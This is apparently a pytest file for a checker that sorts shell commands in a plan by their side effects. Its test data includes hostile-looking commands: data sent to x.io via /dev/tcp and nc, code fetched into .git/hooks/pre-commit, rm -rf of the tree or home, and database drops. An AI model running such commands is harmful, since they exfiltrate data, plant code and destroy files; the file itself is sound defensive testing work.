"""What programs do to files: each row of the table, and the ways to say a destination."""

import pytest

from sisyphus.model.check import Check, WhyNot
from sisyphus.parse.commands.file_programs import FILE_PROGRAMS
from sisyphus.parse.plan import parse_plan

WRITES, DELETES, FOLDER, OWN_OF_GIT, STATE, ALL, JUDGED, ACCESS = (
    "writes outside the tree",
    "deletes files outside the tree",
    "deletes a folder of the tree",
    "changes files of git itself",
    "changes the state folder",
    "deletes the whole tree, a home folder or the system",
    "edits the plan, the evidence or what was allowed",
    "changes who may do what with files",
)
BRANCH = "changes the branch or the index"


def check(command: str) -> Check:
    """Return the only check of a script."""
    (found,) = parse_plan(f"## Success Criteria\n\n```bash\n{command}\n```\n".encode(), "p.md").checks
    return found


SAMPLES: dict[str, tuple[str, str, str]] = {
    "rm": ("rm ~/a", DELETES, "rm a"),
    "rmdir": ("rmdir ../a", DELETES, "rmdir a"),
    "unlink": ("unlink .git/index", OWN_OF_GIT, "unlink a"),
    "shred": ("shred /srv/a", DELETES, "shred a"),
    "srm": ("srm ~/a", DELETES, "srm a"),
    "trash": ("trash ~/a", DELETES, "trash a"),
    "trash-put": ("trash-put ~/a", DELETES, "trash-put a"),
    "cp": ("cp -t ~/a b", WRITES, "cp ~/a b"),
    "gcp": ("gcp a ~/b", WRITES, "gcp -t out a"),
    "ln": ("ln -sf ../x .git/hooks/pre-commit", OWN_OF_GIT, "ln -s /opt/x"),
    "install": ("install -m 755 a /usr/local/bin/a", WRITES, "install -d out"),
    "ginstall": ("ginstall -t /usr/local/bin a", WRITES, "ginstall a out"),
    "mv": ("mv --target-directory=/etc a", WRITES, "mv a b"),
    "gmv": ("gmv a ~/b", WRITES, "gmv a b"),
    "rsync": ("rsync -a a/ ~/b", WRITES, "rsync -a -e ssh ~/a/ b"),
    "mkdir": ("mkdir .git/hooks", OWN_OF_GIT, "mkdir -p -m 700 .sisyphus"),
    "touch": ("touch ~/a", WRITES, "touch -r /etc/hosts a"),
    "truncate": ("truncate -s 0 .git/index", OWN_OF_GIT, "truncate -s0 a"),
    "mkfifo": ("mkfifo ~/a", WRITES, "mkfifo a"),
    "fallocate": ("fallocate -l 1M ~/a", WRITES, "fallocate -l 1M a"),
    "tee": ("make | tee -a ~/a", WRITES, "make | tee a"),
    "sponge": ("make | sponge ~/a", WRITES, "make | sponge a"),
    "script": ("script -c make ~/a", WRITES, "script -q -c make /dev/null"),
    "dd": ("dd if=a of=.git/index", OWN_OF_GIT, "dd if=/dev/zero of=/tmp/a count=1"),
    "sed": ("sed -i '' -e /x/d ~/a", WRITES, "sed -i -e /x/d -e /y/d a"),
    "gsed": ("gsed --in-place=.bak s/a/b/ .git/config", OWN_OF_GIT, "gsed -n 1p /etc/hosts"),
    "perl": ("perl -i.bak -pe s/a/b/ ~/a", WRITES, "perl -Mstrict -ne print /etc/hosts"),
    "ruby": ("ruby -pi -e 1 ~/a", WRITES, "ruby -e 1 /etc/hosts"),
    "awk": ("awk '{print > \"/etc/a\"}' b", WRITES, "awk '$1 > \"a\"' /etc/hosts"),
    "gawk": ("gawk -i inplace '{print}' .git/config", OWN_OF_GIT, "gawk -F: '{print $1}' /etc/passwd"),
    "yq": ("yq -i '.a = 1' ~/a", WRITES, "yq .a /etc/a.yml"),
    "sort": ("sort -uo ~/a b", WRITES, "sort -k2 /etc/passwd -o a"),
    "gsort": ("gsort --output=/etc/a b", WRITES, "gsort /etc/passwd"),
    "shuf": ("shuf a -o .git/config", OWN_OF_GIT, "shuf /etc/passwd"),
    "uniq": ("uniq -c a ~/b", WRITES, "uniq -f 1 /etc/passwd"),
    "xxd": ("xxd -r a .git/index", OWN_OF_GIT, "xxd -l 16 /bin/ls"),
    "split": ("split -l 1 a ~/b", WRITES, "split -l 1 /etc/passwd a"),
    "csplit": ("csplit -f ~/a b 3", WRITES, "csplit /etc/passwd 3"),
    **{
        name: (f"{name} ~/a", WRITES, f"{name} -c ~/a")
        for name in ("gzip", "gunzip", "bzip2", "bunzip2", "xz", "unxz", "zstd", "unzstd", "lz4")
    },
    "compress": ("compress ~/a", WRITES, "compress -c ~/a"),
    "uncompress": ("uncompress ~/a", WRITES, "uncompress -c ~/a"),
    "tar x": ("tar xzf a.tgz -C /", WRITES, "tar -xzf ~/a.tgz -C out"),
    "tar c": ("tar cf ~/a.tar b", WRITES, "tar -C /etc -cf a.tar hosts"),
    "unzip": ("unzip a.zip -d ~/b", WRITES, "unzip -l a.zip -d ~/b"),
    "zip": ("zip -r ~/a.zip b", WRITES, "zip -r a.zip b -x '/tmp/*'"),
    "7z": ("7z x a.7z -o/opt", WRITES, "7z l ~/a.7z"),
    "7za": ("7za a ~/a.7z b", WRITES, "7za x ~/a.7z"),
    "7zz": ("7zz a ~/a.7z b", WRITES, "7zz t ~/a.7z"),
    "cpio": ("cpio -i -D / < a", WRITES, "cpio -i < ~/a"),
    "patch": ("patch -d ~ -p1 < a", WRITES, "patch --dry-run -p1 -i /tmp/a"),
    "curl": ("curl -sSLo.git/hooks/pre-commit x.io", OWN_OF_GIT, "curl -s -c jar -o /dev/null x.io"),
    "wget": ("wget -qP ~/a x.io", WRITES, "wget -qO- x.io"),
    "aria2c": ("aria2c -d ~/a x.io", WRITES, "aria2c -d out x.io"),
    "openssl": ("openssl req -keyout ~/a", WRITES, "openssl x509 -in /etc/a.pem -noout"),
    "ssh-keygen": ("ssh-keygen -f ~/.ssh/a -N ''", WRITES, "ssh-keygen -lf ~/.ssh/a"),
    "venv": ("python -m venv ~/a", WRITES, "python -m venv .venv"),
    "virtualenv": ("virtualenv ~/a", WRITES, "virtualenv -p /usr/bin/python3 .venv"),
    "pip": ("pip install --target ~/a b", WRITES, "pip install -r /etc/a.txt"),
    "pip3": ("pip3 download -d ~/a b", WRITES, "pip3 install b"),
    "npm": ("npm pack --pack-destination ~/a", WRITES, "npm pack"),
    "pnpm": ("pnpm pack --pack-destination ~/a", WRITES, "pnpm test"),
    "yarn": ("yarn build --outdir ~/a", WRITES, "yarn test"),
    "bun": ("bun build a.ts --outfile=/opt/a", WRITES, "bun build a.ts --outdir dist"),
    "make": ("make DESTDIR=/ install", WRITES, "make -o a test"),
    "git clone": ("git clone -b x https://x.io/a ~/a", WRITES, "git clone /srv/a"),
    "git bundle": ("git bundle create ~/a HEAD", WRITES, "git bundle verify a"),
    "git archive": ("git archive HEAD -o ~/a.tar", WRITES, "git archive HEAD -o a.tar"),
    "git diff": ("git diff --output=.git/index", OWN_OF_GIT, "git diff --stat"),
    "git log": ("git log --output=../a", WRITES, "git log --output=a"),
    "git show": ("git show --output ~/a", WRITES, "git show"),
    "git format-patch": ("git format-patch -o ~/a HEAD~1", WRITES, "git format-patch -1"),
    "chmod": ("chmod +x .git/hooks/pre-commit", OWN_OF_GIT, "chmod +x a.sh"),
    **{name: (f"{name} x ~/a", ACCESS, "") for name in ("chown", "chgrp", "chattr", "setfacl")},
    "ed": ("ed -s ~/a < b", WRITES, "ed -s a < b"),
    "ex": ("ex -s -c wq ~/a", WRITES, "ex -s -c wq a"),
    "vim": ("vim -es -c wq .git/config", OWN_OF_GIT, "vim -es -c q a"),
    "nvim": ("nvim --headless -c wq ~/a", WRITES, "nvim --headless -c q"),
    "ffmpeg": ("ffmpeg -i a ~/b", WRITES, "ffmpeg -i ~/a b"),
    "find": ("find . -name a -fprint /etc/b", WRITES, "find /etc -name a"),
    "gfind": ("gfind . -fls ~/a", WRITES, "gfind . -name a"),
}
"""By row: a command with a side effect, what that is, and one without."""


def test_each_row_has_a_sample() -> None:
    assert SAMPLES.keys() == FILE_PROGRAMS.keys()


@pytest.mark.parametrize(("command", "risk"), [(s[0], s[1]) for s in SAMPLES.values()])
def test_what_leaves_the_tree_needs_an_approval_of_its_own(command: str, risk: str) -> None:
    found = check(command)
    assert (found.why_not, found.risk, found.needs_own_approval) == (WhyNot.SIDE_EFFECT, risk, True)


@pytest.mark.parametrize("command", [s[2] for s in SAMPLES.values() if s[2]])
def test_what_stays_in_the_tree_is_ordinary(command: str) -> None:
    assert check(command).runnable, check(command).risk


@pytest.mark.parametrize(
    ("command", "risk"),
    [
        ("cd .sisyphus && rm -rf evidence", JUDGED),
        ("cd .sisyphus; rm -rf evidence/sisyphus", JUDGED),
        ("cd .sisyphus/plans && sed -i 's/\\[ \\]/[x]/' p.md", JUDGED),
        ("cd .omo && echo x > boulder.json", JUDGED),
        ("cd app && rm -rf ../.sisyphus", JUDGED),
        ("rm -rf .sis*", JUDGED),
        ("find .sisyphus -name '*.jsonl' -delete", JUDGED),
        ("echo x >> .sisyphus/notepads/p/learnings.md", STATE),
        ("pushd .git && rm config", OWN_OF_GIT),
        ("pushd app; popd; echo x > .git/config", OWN_OF_GIT),
        ("cp x $(git rev-parse --git-dir)/hooks/pre-commit", OWN_OF_GIT),
        ("(cd build); rm -rf *", ALL),
        ("sh -c 'cd build'; rm -rf *", ALL),
        ("f() { cd build; }; rm -rf *", ALL),
        ("cd app && rm -rf ..", ALL),
        ("rm -rf */", ALL),
        ("rm -rf .*", JUDGED),
        ("rm -rf .g*", ALL),
        ("rm -rf {.git,src}", ALL),
        ("rm -rf {a,{b,.git}}", ALL),
        ("cd .sisyphus && find . -type f | xargs rm", JUDGED),
        ("cd src && ls | xargs rm -rf", FOLDER),
        ('rm -rf "$(pwd)"', ALL),
        ("rm -rf $(git rev-parse --show-toplevel)", ALL),
        ("find . -delete", ALL),
        ("find . -type f -name '*' -exec rm {} +", ALL),
        ("fd . -x rm -rf", ALL),
        ("ls -A | xargs rm -rf", ALL),
        ("git ls-files | xargs rm", ALL),
        ("git diff --name-only | xargs rm", FOLDER),
        ("rm -rf src", FOLDER),
        ("find src -delete", FOLDER),
        ("rm -r packages/core/", FOLDER),
        ("python3 -c \"import shutil; shutil.rmtree('src')\"", FOLDER),
        ("python3 -c \"open('/etc/a', 'w').write('')\"", WRITES),
        ("python3 -c \"from pathlib import Path; Path('.git/config').write_text('')\"", OWN_OF_GIT),
        ("python3 -c \"import os; os.replace('a', '.git/HEAD')\"", OWN_OF_GIT),
        ("node -e \"require('fs').writeFileSync('.git/config', '')\"", OWN_OF_GIT),
        ("perl -e 'open(F, \">/etc/a\")'", WRITES),
        ("ruby -e 'File.write(\"/etc/a\", 1)'", WRITES),
        ("sed -n 'w .git/config' a", OWN_OF_GIT),
        ("sed 's/a/b/gw /etc/a' a", WRITES),
        ("sed '1e git push' a", "pushes to a remote"),
        ("awk '{print | \"sh\"}' a", "pipes text into a shell"),
        ("awk 'BEGIN { \"git push\" | getline a }'", "pushes to a remote"),
        ("curl -X POST http://localhost:1 -o ~/.bashrc", WRITES),
        ("cat a > /dev/tcp/x.io/80", "sends data to another machine"),
        ("nc x.io 80 < a", "sends data to another machine"),
        ("gcloud compute instances delete a", "changes something in a cloud"),
        ("vault kv put a b=c", "changes something in a cloud"),
        ("vagrant destroy -f", "starts or changes virtual machines"),
        ("echo make | at now", "changes this machine"),
        ("npm link", "installs software on this machine"),
        ("gh auth logout", "changes something on the code host"),
        ("go build -o ~/bin/app .", WRITES),
        ("cd .git/hooks && curl -O https://x.io/pre-commit", OWN_OF_GIT),
        ("cd .git && wget https://x.io/config", OWN_OF_GIT),
        ("cd .sisyphus && tar xf a.tar", JUDGED),
        ("cd ~ && unzip a.zip", WRITES),
        ("find . ! -name x -delete", ALL),
        ("find . -mindepth 1 -not -empty -delete", ALL),
        ("python3 - <<'EOF'\nimport shutil\nshutil.rmtree('/home')\nEOF", ALL),
        ("python3 <<'EOF' | grep x\nopen('.git/config', 'w')\nEOF", OWN_OF_GIT),
        ("d=.git; echo x > $d/config", OWN_OF_GIT),
        ("psql <<'EOF'\nDROP TABLE a;\nEOF", "writes to a database"),
        ("sqlite3 a.db <<< 'DELETE FROM a'", "writes to a database"),
        ("echo 'drop table a' | psql", "writes to a database"),
        ("echo flushall | redis-cli", "writes to a database"),
        ("helm delete a", "deploys"),
        ("tsc --outDir ~/out", WRITES),
    ],
)
def test_a_destination_by_other_ways(command: str, risk: str) -> None:
    found = check(command)
    assert (found.why_not, found.risk) == (WhyNot.SIDE_EFFECT, risk)


@pytest.mark.parametrize(
    "command",
    [
        "cd app && rm -rf ../dist",
        "cd build && rm -rf *",
        "(cd app && npm test) && rm -rf dist",
        "mkdir -p copy && cp -r src copy && rm -rf copy",
        "rm -rf node_modules dist test-output .next target/debug *.egg-info",
        "rm .sisyphus/evidence/task-1.txt",
        "cp a .sisyphus/evidence/",
        "touch .sisyphus/logs/a.log",
        "cat .git/config",
        "test -x .git/hooks/pre-commit",
        "find build -delete",
        "find . -name node_modules -prune -exec rm -rf {} +",
        "find . -type d -empty -delete",
        "fd -e pyc -x rm",
        "ls *.tmp | xargs rm",
        "cd build && ls -A | xargs rm -rf",
        "cd build && find . -type f | xargs rm",
        "cd build && fd . -x rm",
        "find . -type d -name trash",
        "ls | grep tmp | xargs rm",
        "sed 's/w /x/' a",
        "sed 's#/w x#y#' a",
        "awk '{print $1 | \"sort -u\"}' a",
        "python3 -c \"open('/etc/hosts').read()\"",
        "python3 -c \"open('out.txt', 'w').write('a')\"",
        "node -e \"fs.writeFileSync('/tmp/a', '')\"",
        "echo > /dev/tcp/localhost/5432",
        "nc -z x.io 443",
        "rsync -an a/ host:b",
        "gcloud compute instances list",
        "gh auth status",
        "go build -o bin/app .",
        "cd /srv/app && npm install",
        "nvim --headless a.lua -c LspInfo -c quit",
        "cd app && npm install && curl -O http://localhost/a && tar xf a.tar",
        "cd /tmp && tar xf a.tar && wget https://x.io/a",
        "tar xf ~/a.tar",
        "python3 - <<'EOF'\nopen('/etc/hosts').read()\nEOF",
        "python3 run.py <<'EOF'\nimport shutil; shutil.rmtree('/')\nEOF",
        "psql <<'EOF'\nSELECT 1;\nEOF",
        "echo 'select 1' | psql",
        "cat <<'EOF'\nDROP TABLE a;\nEOF",
        "d=out; echo x > $d/a",
        'cat a > "$(git rev-parse --show-toplevel)/out.txt"',
    ],
)
def test_ordinary_ways(command: str) -> None:
    assert check(command).runnable, check(command).risk


def test_hub_and_bsdtar_are_read_as_git_and_tar() -> None:
    assert check("bsdtar -xf a -C ~").risk == WRITES
    assert check("hub clone https://x.io/a ~/a").risk == WRITES
    assert check("git stash").risk == BRANCH
